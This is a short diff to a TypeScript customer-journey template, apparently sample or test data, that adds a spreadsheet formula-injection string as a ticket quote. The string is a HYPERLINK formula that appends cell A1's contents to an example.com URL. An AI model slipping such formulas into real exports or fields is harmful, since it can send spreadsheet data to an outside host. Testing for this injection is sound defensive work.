@@ -168,7 +168,7 @@ export const REALISTIC_TEMPLATE: Template = templateSchema.parse({
           actions: ['Calls support for the third time this month'],
           'pain-points': ['Hotline only in English before 10:00 CET'],
           opportunities: ['Support auf Deutsch und Französisch ab 8 Uhr'],
-          quotes: ['"=HYPERLINK(""http://example.com"",""click"")" was pasted into a ticket'],
+          quotes: ['=HYPERLINK("http://example.com/?"&A1,"click") — pasted into a ticket'],
         }),
       ],
     },
